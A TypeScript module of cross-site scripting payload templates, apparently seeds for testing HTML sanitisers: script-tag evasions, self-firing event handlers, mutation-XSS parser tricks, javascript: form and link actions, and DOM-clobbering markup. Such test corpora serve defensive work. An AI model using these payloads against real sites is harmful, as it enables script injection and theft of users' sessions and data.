// Markup that would run: scripts, handlers, trees that a second parser reads otherwise, names that shadow the page's own.
import type { Seed } from '../payloads'

export const scripts: Seed[] = [
  ({ run }) => `<script>${run}</script>`,
  ({ run }) => `<ScRiPt>${run}</sCrIpT>`,
  ({ run }) => `<script/x>${run}</script/x>`,
  ({ run }) => `<script\n\t>${run}</script >`,
  ({ run }) => `<script\f>${run}</script>`,
  ({ run }) => `<script\0>${run}</script>`,
  ({ run }) => `<<script>${run}//<</script>`,
  ({ run }) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  ({ run }) => `<script type="module">${run}</script>`,
  ({ run }) => `<script type="text/javascript" async defer>${run}</script>`,
  ({ run }) => `<script language="vbscript">${run}</script>`,
  ({ run }) => `<script type="importmap">{}</script><script type="module">${run}</script>`,
  ({ at }) => `<script src="${at('a.js')}"></script>`,
  ({ at }) => `<script src=${at('b.js')} async></script>`,
  ({ at }) => `<script type="module" src="${at('c.js')}"></script>`,
  ({ run }) => `<script src="data:text/javascript,${run}"></script>`,
  ({ run }) => `<!--><script>${run}</script>-->`,
  ({ run }) => `<!--<img src="--><script>${run}</script>">`,
  ({ run }) => `<!-- --!><script>${run}</script>-->`,
  ({ run }) => `<![CDATA[<script>${run}</script>]]>`,
  ({ run }) => `<?xml version="1.0"?><script>${run}</script>`,
  ({ run }) => `<noscript><p title="</noscript><script>${run}</script>"></noscript>`,
  ({ run }) => `<title><p title="</title><script>${run}</script>"></title>`,
  ({ run }) => `<textarea><p title="</textarea><script>${run}</script>"></textarea>`,
  ({ run }) => `<style><p title="</style><script>${run}</script>"></style>`,
  ({ run }) => `<xmp><p title="</xmp><script>${run}</script>"></xmp>`,
  ({ run }) => `<iframe><p title="</iframe><script>${run}</script>"></iframe>`,
  ({ run }) => `<noembed><p title="</noembed><script>${run}</script>"></noembed>`,
  ({ run }) => `<noframes><p title="</noframes><script>${run}</script>"></noframes>`,
  ({ run }) => `<template><script>${run}</script></template>`,
  ({ run }) => `<template shadowrootmode="open"><script>${run}</script></template>`,
  ({ run }) => `<div><template shadowrootmode="open"><img src=x onerror=${run}></template></div>`,
  ({ run }) => `<table><script>${run}</script><tr><td>x</table>`,
  ({ run }) => `<select><script>${run}</script></select>`,
  ({ run }) => `<object><script>${run}</script></object>`,
  ({ run }) => `<script>${run}`,
  ({ run }) => `<plaintext><script>${run}</script>`,
]

/** Elements that raise the event by themselves when they are shown. */
const selfmade = [
  ['img src=x', 'onerror'], ['img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="', 'onload'], ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['body', 'onload'], ['body', 'onpageshow'], ['svg', 'onload'],
  ['iframe src="about:blank"', 'onload'], ['object data=x', 'onerror'], ['embed src=x', 'onerror'], ['link rel=stylesheet href=x', 'onerror'], ['style', 'onload'], ['script src=x', 'onerror'],
  ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['a href=# autofocus', 'onfocus'], ['div tabindex=1 autofocus', 'onfocus'], ['div contenteditable autofocus', 'onfocus'],
  ['details open', 'ontoggle'], ['marquee loop=1 width=0', 'onfinish'], ['marquee', 'onstart'], ['marquee', 'onbounce'], ['div style="animation:a 1s" id=anim', 'onanimationstart'], ['input type=image src=x', 'onerror'], ['track default src=x', 'onerror'],
  ['div style="transition:outline 1ms"', 'ontransitionend'], ['html', 'onmousemove'], ['div', 'onpointerenter'], ['div', 'onmouseover'], ['p', 'onclick'], ['div hidden=until-found', 'onbeforematch'], ['dialog open', 'onclose'],
] as const

/** The same attribute as sanitisers and browsers may read it differently. */
const spellings: ((element: string, event: string, run: string) => string)[] = [
  (element, event, run) => `<${element} ${event}="${run}">`,
  (element, event, run) => `<${element}/${event}=${run}>`,
  (element, event, run) => `<${element}\n${event.toUpperCase()}\n=\n'${run}'>`,
  (element, event, run) => `<${element} x="'" ${event}=\`${run}\` y="'>">`,
  (element, event, run) => `<${element} title="&quot;" ${event}="${run.replace('(', '&#40;').replace(')', '&#x29;')}">`,
]

export const events: Seed[] = selfmade.flatMap(([element, event], n) =>
  [spellings[0], spellings[1 + (n % 4)], spellings[1 + ((n + 2) % 4)]].map((spell): Seed => ({ run }) => `<style>@keyframes a{}</style>${spell?.(element, event, run) ?? ''}x</${element.split(' ')[0]}>`),
)

/** Trees that change when they are written down and read again. */
const shells = [
  ['<svg></p><style><a id="</style>', '"></svg>'], ['<math></br><style><a title="</style>', '"></math>'], ['<svg><p><style><!--</style>', '--></svg>'], ['<svg><desc><noscript><a title="</noscript>', '"></svg>'],
  ['<math><mtext><table><mglyph><style><!--</style>', '</math>'], ['<form><math><mtext></form><form><mglyph><style></math>', '</form>'], ['<math><annotation-xml encoding="text/html"><p><style>&lt;/style>', '</math>'],
  ['<svg><foreignObject><math><mi><mglyph><svg><mtext><textarea><path id="</textarea>', '"></svg>'], ['<svg><title><![CDATA[</title>', ']]></svg>'], ['<noscript><style></noscript>', '</style></noscript>'],
  ['<table><caption><svg><style><a id="</style>', '"></table>'], ['<select><keygen><svg><style>&lt;/style>', '</select>'], ['<a><a><svg><xmp><a id="</xmp>', '"></a>'], ['<p><svg><animate><listing>&lt;/listing>', '</p>'], ['<b><i></b><svg><style></i>', '</style></svg>'],
  ['<math><mi><style><!-- --!></style>', '</math>'], ['<svg><style><a alt="--></style>', '"></svg>'], ['<details><summary><svg><script type="x">&lt;/script>', '</script></details>'], ['<d><svg><use></use><image>', '</image></svg></d>'], ['<svg><a><foreignobject><textarea>&lt;/textarea>', '</svg>'],
]
export const mutations: Seed[] = [
  ...shells.map(([open, close]): Seed => ({ run }) => `${open}<img src=x onerror=${run}>${close}`),
  ...shells.map(([open, close]): Seed => ({ run }) => `${open}<script>${run}</script>${close}`),
  ({ run }) => `<svg><script>${run}</script></svg>`,
  ({ run }) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
  ({ run }) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  ({ run }) => `<svg><set onend=${run} attributeName=x dur=1s></svg>`,
  ({ run }) => `<svg><animateTransform onbegin=${run} attributeName=transform>`,
  ({ run }) => `<svg><a xlink:href="#"><animate attributeName="href" values="javascript:${run}"/><text>x</text></a></svg>`,
  ({ run }) => `<svg><a><set attributeName="href" to="javascript:${run}"/><text y="20">x</text></a></svg>`,
  ({ run }) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"></use></svg>`,
  ({ run }) => `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  ({ run }) => `<svg><image href=x onerror=${run}></svg>`,
  ({ run }) => `<svg/onload=${run}//`,
  ({ run }) => `<math href="javascript:${run}">x</math>`,
  ({ run }) => `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  ({ run }) => `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${run}</script></annotation-xml></semantics></math>`,
  ({ run }) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  ({ run }) => `<xml><i><b>&lt;img src=x onerror=${run}&gt;</b></i></xml>`,
]

/** Pressed by the test, without a host to go to. */
export const clicked: Seed[] = [
  ({ run }) => `<form action="javascript:${run}"><input type=submit value=go></form>`,
  ({ run }) => `<form><button formaction="javascript:${run}">go</button></form>`,
  ({ run }) => `<form onsubmit="${run}"><button>go</button></form>`,
  ({ run }) => `<form><input type=image src="data:," formaction="javascript:${run}"></form>`,
  ({ at }) => `<form action="${at('form')}" method=post target=_top><button>go</button></form>`,
  ({ at }) => `<form action="${at('form')}"><input name=q value=1><input type=submit></form>`,
  ({ at }) => `<form id=far action="${at('form')}"></form><button form=far>go</button>`,
  ({ at }) => `<button formaction="${at('form')}" formtarget=_top type=submit>go</button>`,
  ({ at }) => `<base href="${at('')}"><form><button>go</button></form>`,
  ({ run }) => `<base href="javascript:/a/-${run}//"><a href="#">go</a>`,
  ({ run }) => `<a href="#" onclick="${run}">go</a>`,
  ({ run }) => `<label for=z>go</label><input id=z type=checkbox onchange="${run}">`,
  ({ run }) => `<details ontoggle=${run}><summary>go</summary>x</details>`,
  ({ run }) => `<button popovertarget=pop>go</button><div id=pop popover onbeforetoggle=${run}>x</div>`,
  ({ run }) => `<button commandfor=dlg command=show-modal>go</button><dialog id=dlg ontoggle=${run}>x</dialog>`,
  ({ run }) => `<map name=m><area shape=rect coords=0,0,99,99 href="javascript:${run}"></map><img usemap=#m width=99 height=99 src="data:,">`,
  ({ run }) => `<iframe name="javascript:${run}"></iframe><a href="#" target="x">go</a>`,
  ({ run }) => `<a href="" target="&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;">go</a>`,
]

const shadowed = ['document', 'location', 'forms', 'cookie', 'querySelector', 'getElementById', 'body', 'defaultView', 'baseURI', 'page', 'app', 'postkeep', 'fetch', 'navigation', 'documentElement', 'activeElement', 'list', 'message', '__proto__', 'constructor']
export const clobbering: Seed[] = shadowed.flatMap((name): Seed[] => [
  ({ at }) => `<a id="${name}"></a><a id="${name}" name="href" href="cid:${at('clobber').length}">x</a>`,
  ({ run }) => `<form id="${name}" name="${name}"><input name=attributes><input name=innerHTML><input name=parentNode><img src=x onerror=${run} name=nodeName></form>`,
])
